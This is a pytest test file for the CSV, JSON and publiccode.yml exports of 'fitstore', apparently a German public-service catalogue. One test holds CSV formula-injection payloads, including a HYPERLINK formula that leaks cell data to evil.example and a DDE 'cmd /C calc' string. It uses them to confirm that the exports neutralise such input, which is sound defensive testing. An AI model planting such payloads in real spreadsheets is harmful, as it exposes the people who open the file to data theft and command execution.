"""Catalogue exports (CSV, JSON) and publiccode.yml over HTTP.

The listings asserted on are made here through the service and carry a token no demo
text contains, so ``?q=<token>`` narrows every export to this module's listings.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
import yaml
from sqlalchemy import select

from fitstore.extensions import db
from fitstore.models import Organisation
from fitstore.services import exports, listings
from tests.conftest import login
from tests.factories import listing_content, user_by_email

TOKEN = "kranichzug"
BOM = b"\xef\xbb\xbf"
HEADER = [
    "id",
    "Titel",
    "OZG-Leistung",
    "OZG-ID",
    "Leistungsschlüssel",
    "Themenfeld",
    "Reifegrad",
    "Bereitsteller (Land)",
    "Betreiber",
    "Transport",
    "XÖV-Standard",
    "Status",
    "jährliche Betriebskosten (EUR)",
    "Anbindungskosten (EUR)",
    "veröffentlicht am",
    "URL",
]


def content(**overrides) -> dict:
    overrides.setdefault("ozg_id", "98101")
    overrides.setdefault("leika_keys", ["98000000000101", "98000000000102"])
    overrides.setdefault("user_account", "servicekonto_bundid")
    overrides.setdefault("title", "Kranich-Testleistung")
    overrides.setdefault(
        "description", f"Eine Testleistung für den Export ({TOKEN}). Zweiter Satz."
    )
    return listing_content(**overrides)


_user = user_by_email


def make(app, status: str = "published", editor: str = "editor-bb", **overrides) -> int:
    """A listing in ``status`` (draft, submitted, published, withdrawn); returns its id."""
    with app.app_context():
        author, fitko = _user(f"{editor}@demo.test"), _user("fitko-1@demo.test")
        listing_id = listings.create_listing(author, content(**overrides)).id
        if status != "draft":
            listings.submit_listing(author, listing_id)
        if status in ("published", "withdrawn"):
            listings.publish_listing(fitko, listing_id)
        if status == "withdrawn":
            listings.withdraw_listing(author, listing_id)
        return listing_id


def _client(app, email: str | None):
    client = app.test_client()
    if email:
        assert login(client, email).status_code == 302
    return client


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.data.startswith(BOM)
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))


def csv_ids(response) -> list[int]:
    return [int(row[0]) for row in csv_rows(response)[1:]]


def json_ids(response) -> list[int]:
    assert response.status_code == 200
    return [item["id"] for item in response.get_json()["items"]]


# --- CSV -------------------------------------------------------------------------------------


def test_csv_is_made_for_german_excel(app, client):
    with app.app_context():
        zit = db.session.scalar(select(Organisation.id).where(Organisation.short_name == "ZIT-BB"))
    listing_id = make(app, operator_id=zit)
    response = client.get(f"/katalog.csv?q={TOKEN}")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="fitstore-katalog.csv"'
    assert b"\r\n" in response.data
    rows = csv_rows(response)
    assert rows[0] == HEADER
    today = datetime.now(ZoneInfo("Europe/Berlin")).strftime("%d.%m.%Y")
    assert rows[1:] == [
        [
            str(listing_id),
            "Kranich-Testleistung",
            "Testleistung",
            "98101",
            "98000000000101, 98000000000102",
            "Ein- & Auswanderung",
            "3",
            "Brandenburg",
            "Zentraler IT-Dienstleister des Landes Brandenburg",
            "FIT-Connect",
            "XAusländer",
            "Veröffentlicht",
            "1234,56",
            "500,00",
            today,
            f"http://localhost/leistungen/{listing_id}",
        ]
    ]


def test_csv_labels_stay_german_in_the_english_ui(app, client):
    make(app, transport="osci_dvdv", annual_cost_cents=5, connection_cost_cents=None)
    rows = csv_rows(client.get(f"/katalog.csv?q={TOKEN}&lang=en"))
    assert rows[0] == HEADER
    row = dict(zip(HEADER, rows[1], strict=True))
    assert row["Status"] == "Veröffentlicht" and row["Transport"] == "OSCI/DVDV"
    assert row["jährliche Betriebskosten (EUR)"] == "0,05"
    assert row["Anbindungskosten (EUR)"] == ""


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
        "+49 30 1234",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ],
)
def test_csv_injection_is_neutralised(app, client, title):
    make(app, title=title, ozg_name=f"={TOKEN}")
    rows = csv_rows(client.get(f"/katalog.csv?q={TOKEN}"))
    row = dict(zip(HEADER, rows[1], strict=True))
    assert row["Titel"] == "'" + title
    assert row["OZG-Leistung"] == f"'={TOKEN}"
    # JSON is data, not a spreadsheet: it keeps the text as written.
    items = client.get(f"/katalog.json?q={TOKEN}").get_json()["items"]
    assert items[0]["title"] == title


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (12, "12"),
    ],
)
def test_neutralise(cell, expected):
    assert exports.neutralise(cell) == expected


# --- who sees what ----------------------------------------------------------------------------


@pytest.fixture
def every_state(app):
    return {
        status: make(app, status, title=f"Kranich {status}")
        for status in ("draft", "submitted", "published", "withdrawn")
    }


@pytest.mark.parametrize(
    ("email", "visible"),
    [
        (None, {"published"}),
        ("viewer-he@demo.test", {"published"}),
        ("editor-he@demo.test", {"published"}),
        ("editor-bb@demo.test", {"draft", "submitted", "published", "withdrawn"}),
        ("viewer-bb@demo.test", {"draft", "submitted", "published", "withdrawn"}),
        ("fitko-1@demo.test", {"draft", "submitted", "published", "withdrawn"}),
    ],
)
def test_exports_show_what_the_catalogue_shows(app, every_state, email, visible):
    client = _client(app, email)
    expected = sorted(every_state[status] for status in visible)
    assert sorted(csv_ids(client.get(f"/katalog.csv?q={TOKEN}"))) == expected
    assert sorted(json_ids(client.get(f"/katalog.json?q={TOKEN}"))) == expected
    # Asking for other states changes nothing for the public (status is an internal filter).
    drafts = csv_ids(client.get(f"/katalog.csv?q={TOKEN}&status=draft&status=submitted"))
    if email is None:
        assert sorted(drafts) == expected
    else:
        wanted = [every_state[s] for s in ("draft", "submitted") if s in visible]
        assert sorted(drafts) == sorted(wanted)


def test_the_public_export_never_contains_unpublished_listings(app, client, every_state):
    unpublished = {every_state[s] for s in ("draft", "submitted", "withdrawn")}
    for url in ("/katalog.csv", "/katalog.json", "/katalog.csv?status=draft&sort=date"):
        response = client.get(url)
        ids = csv_ids(response) if url.startswith("/katalog.csv") else json_ids(response)
        assert every_state["published"] in ids
        assert not unpublished & set(ids)
    body = client.get("/katalog.csv").data.decode("utf-8-sig")
    assert "Kranich draft" not in body and "Kranich submitted" not in body


def test_a_logged_in_export_is_not_cached(app, every_state):
    response = _client(app, "editor-bb@demo.test").get("/katalog.csv")
    assert response.data.startswith(BOM)
    assert "no-store" in response.headers["Cache-Control"]
    assert "Cookie" in response.headers["Vary"]


# --- filters and sorting ----------------------------------------------------------------------------


@pytest.fixture
def filter_set(app):
    return {
        "bb_4_r3_fc": make(app, title="Anton", themenfeld_number=4, reifegrad=3),
        "bb_6_r2_osci": make(
            app, title="Berta", themenfeld_number=6, reifegrad=2, transport="osci_dvdv"
        ),
        "he_4_r4_fc": make(
            app, editor="editor-he", title="Cäsar", themenfeld_number=4, reifegrad=4
        ),
    }


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", ["bb_4_r3_fc", "bb_6_r2_osci", "he_4_r4_fc"]),
        ("themenfeld=4", ["bb_4_r3_fc", "he_4_r4_fc"]),
        ("themenfeld=4&themenfeld=6", ["bb_4_r3_fc", "bb_6_r2_osci", "he_4_r4_fc"]),
        ("land=12", ["bb_4_r3_fc", "bb_6_r2_osci"]),
        ("land=BB", ["bb_4_r3_fc", "bb_6_r2_osci"]),
        ("land=de-he", ["he_4_r4_fc"]),
        ("reifegrad=2&reifegrad=4", ["bb_6_r2_osci", "he_4_r4_fc"]),
        ("transport=osci_dvdv", ["bb_6_r2_osci"]),
        ("themenfeld=4&land=06&reifegrad=4&transport=fit_connect", ["he_4_r4_fc"]),
        ("themenfeld=6&land=06", []),
        ("q=Berta", ["bb_6_r2_osci"]),
    ],
)
def test_filters_apply(app, client, filter_set, query, expected):
    url = f"/katalog.csv?q={TOKEN}&sort=title&{query}" if query else f"/katalog.csv?q={TOKEN}"
    if query.startswith("q="):
        url = f"/katalog.csv?{query}+{TOKEN}&sort=title"
    ids = sorted(csv_ids(client.get(url)))
    assert ids == sorted(filter_set[key] for key in expected)
    assert sorted(json_ids(client.get(url.replace(".csv", ".json")))) == ids


def test_sorting_applies(app, client, filter_set):
    by_title = [filter_set[k] for k in ("bb_4_r3_fc", "bb_6_r2_osci", "he_4_r4_fc")]
    assert csv_ids(client.get(f"/katalog.csv?q={TOKEN}&sort=title")) == by_title
    assert csv_ids(client.get(f"/katalog.csv?q={TOKEN}&sort=date")) == by_title[::-1]
    assert json_ids(client.get(f"/katalog.json?q={TOKEN}&sort=date")) == by_title[::-1]


@pytest.mark.parametrize(
    "query",
    [
        "themenfeld=abc&reifegrad=99&land=XX&transport=<script>&status=gibtsnicht&sort=evil",
        "themenfeld=-1&themenfeld=4.5&reifegrad=&land=",
        "themenfeld=999999999999999999999&reifegrad=7&land=Bayern",
        "q=" + "ä" * 5000,
        "q=a:*%20%26%20!b%20|%20('x')&sort=relevance",
        "page=-3&per_page=100000",
        "land=12,06&themenfeld=4,6",
    ],
)
def test_garbage_parameters_never_fail(app, client, filter_set, query):
    for path in ("/katalog.csv", "/katalog.json"):
        response = client.get(f"{path}?{query}")
        assert response.status_code == 200, (path, query)
        assert response.data  # read the streamed body before the next request
    json.loads(client.get(f"/katalog.json?{query}").data)
    csv_rows(client.get(f"/katalog.csv?{query}"))


def test_garbage_values_are_dropped_not_applied(app, client, filter_set):
    everything = sorted(filter_set.values())
    url = f"/katalog.csv?q={TOKEN}&themenfeld=abc&reifegrad=9&land=XX&transport=zug&sort=evil"
    assert sorted(csv_ids(client.get(url))) == everything


def test_comma_separated_values_work_like_repeated_ones(app, client, filter_set):
    url = f"/katalog.csv?q={TOKEN}&land=12,DE-HE&themenfeld=4"
    assert sorted(csv_ids(client.get(url))) == sorted(
        [filter_set["bb_4_r3_fc"], filter_set["he_4_r4_fc"]]
    )


# --- JSON ------------------------------------------------------------------------------------------


def test_json_export(app, client):
    listing_id = make(app)
    response = client.get(f"/katalog.json?q={TOKEN}")
    assert response.headers["Content-Type"] == "application/json"
    assert 'filename="fitstore-katalog.json"' in response.headers["Content-Disposition"]
    body = response.get_json()
    assert body["count"] == 1
    (item,) = body["items"]
    assert item["id"] == listing_id
    assert item["url"] == f"http://localhost/leistungen/{listing_id}"
    assert item["leika_keys"] == ["98000000000101", "98000000000102"]
    assert item["themenfeld"] == {"number": 4, "name": "Ein- & Auswanderung"}
    assert item["provider"] == {"ags": "12", "iso": "DE-BB", "name": "Brandenburg"}
    assert item["operator"] is None
    assert (item["annual_cost_cents"], item["connection_cost_cents"]) == (123456, 50000)
    assert (item["status"], item["transport"], item["reifegrad"]) == ("published", "fit_connect", 3)
    assert item["published_version"] == 1
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", item["published_at"])


def test_an_empty_export_is_still_well_formed(client):
    assert client.get("/katalog.json?q=Quastenflosserzucht").get_json() == {"items": [], "count": 0}
    assert csv_rows(client.get("/katalog.csv?q=Quastenflosserzucht")) == [HEADER]


# --- publiccode.yml --------------------------------------------------------------------------------


def test_publiccode_yml(app, client):
    with app.app_context():
        zit = db.session.scalar(select(Organisation.id).where(Organisation.short_name == "ZIT-BB"))
    listing_id = make(
        app,
        operator_id=zit,
        checklist={"ui_mehrsprachig": True},
        description=f"Online-Antrag für z. B. Kraniche ({TOKEN}). Zweiter Satz mit **Markdown**.",
    )
    response = client.get(f"/leistungen/{listing_id}/publiccode.yml")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/yaml; charset=utf-8"
    text = response.data.decode("utf-8")
    assert "Ein- & Auswanderung" in text  # allow_unicode: no \\u escapes
    doc = yaml.safe_load(text)
    assert doc["publiccodeYmlVersion"] == "0.4"
    assert doc["name"] == "Kranich-Testleistung"
    assert doc["url"] == f"http://localhost/leistungen/{listing_id}"
    assert (doc["developmentStatus"], doc["softwareType"]) == ("stable", "standalone/web")
    assert doc["platforms"] == ["web"]
    assert doc["softwareVersion"] == "1"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", doc["releaseDate"])
    german = doc["description"]["de"]
    assert german["shortDescription"] == f"Online-Antrag für z. B. Kraniche ({TOKEN})."
    assert german["longDescription"].endswith("Zweiter Satz mit **Markdown**.")
    assert "Übermittlung über FIT-Connect" in german["features"]
    assert doc["legal"]["mainCopyrightOwner"] == "Land Brandenburg"
    assert doc["legal"]["repoOwner"] == "Zentraler IT-Dienstleister des Landes Brandenburg"
    assert doc["maintenance"] == {
        "type": "internal",
        "contacts": [
            {
                "name": "Erika Muster",
                "email": "erika.muster@example.org",
                "affiliation": "Land Brandenburg",
            }
        ],
    }
    assert doc["localisation"] == {"localisationReady": True, "availableLanguages": ["de", "en"]}
    assert doc["DE"] == {
        "countryExtensionVersion": "1.0",
        "leika": [
            {"themenfeld": "Ein- & Auswanderung", "ozg-id": "98101", "leika-id": "98000000000101"},
            {"themenfeld": "Ein- & Auswanderung", "ozg-id": "98101", "leika-id": "98000000000102"},
        ],
    }


@pytest.mark.parametrize(
    ("status", "development", "maintenance"),
    [
        ("draft", "development", "internal"),
        ("submitted", "beta", "internal"),
        ("withdrawn", "obsolete", "none"),
    ],
)
def test_publiccode_status_mapping(app, status, development, maintenance):
    listing_id = make(app, status)
    client = _client(app, "editor-bb@demo.test")
    doc = yaml.safe_load(client.get(f"/leistungen/{listing_id}/publiccode.yml").data)
    assert doc["developmentStatus"] == development
    assert doc["maintenance"]["type"] == maintenance
    assert ("softwareVersion" in doc) == (status == "withdrawn")


@pytest.mark.parametrize(
    ("email", "expected"),
    [
        (None, 404),
        ("editor-he@demo.test", 404),
        ("viewer-he@demo.test", 404),
        ("editor-bb@demo.test", 200),
        ("fitko-1@demo.test", 200),
        ("admin@demo.test", 200),
    ],
)
def test_publiccode_of_a_draft_only_for_those_who_may_see_it(app, email, expected):
    draft_id = make(app, "draft")
    response = _client(app, email).get(f"/leistungen/{draft_id}/publiccode.yml")
    assert response.status_code == expected
    if expected == 404:
        assert b"Kranich" not in response.data


def test_publiccode_of_a_missing_listing_is_404(client):
    assert client.get("/leistungen/987654321/publiccode.yml").status_code == 404


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("Erster Satz. Zweiter Satz.", "Erster Satz."),
        ("# Titel\n\nAntrag nach § 68 AufenthG, bzw. Verlängerung. Mehr.", None),
        ("Am 1. Dezember ging es los. Dann mehr.", "Am 1. Dezember ging es los."),
        ("Seit 2020. Danach mehr.", "Seit 2020."),
        ("Ohne Punkt am Ende", "Ohne Punkt am Ende"),
        ("[Link](https://example.org) und *fett*. Rest.", "Link und fett."),
        ("Wort " * 60, None),
    ],
)
def test_first_sentence(markdown, expected):
    result = exports.first_sentence(markdown)
    assert len(result) <= 150
    if expected is not None:
        assert result == expected
    elif "AufenthG" in markdown:
        assert result == "Titel Antrag nach § 68 AufenthG, bzw. Verlängerung."
    else:
        assert result.endswith("…")


# --- a constant number of queries ----------------------------------------------------------------


def _create_drafts(app, number: int) -> None:
    with app.app_context():
        editor = _user("editor-bb@demo.test")
        for index in range(number):
            listings.create_listing(editor, content(title=f"Kranich Nummer {index:03d}"))


@pytest.mark.parametrize("path", ["/katalog.csv", "/katalog.json"])
def test_the_export_runs_the_same_queries_for_10_and_200_listings(app, count_queries, path):
    client = _client(app, "editor-bb@demo.test")
    url = f"{path}?q={TOKEN}&sort=title"

    def measure(expected_rows: int) -> int:
        with count_queries() as counter:
            response = client.get(url)
            data = response.data  # the body streams: read it inside the counter
        ids = csv_ids(response) if path.endswith(".csv") else json_ids(response)
        assert len(ids) == expected_rows and data
        return counter.count

    _create_drafts(app, 10)
    small = measure(10)
    _create_drafts(app, 190)
    assert measure(200) == small
    assert small <= 10
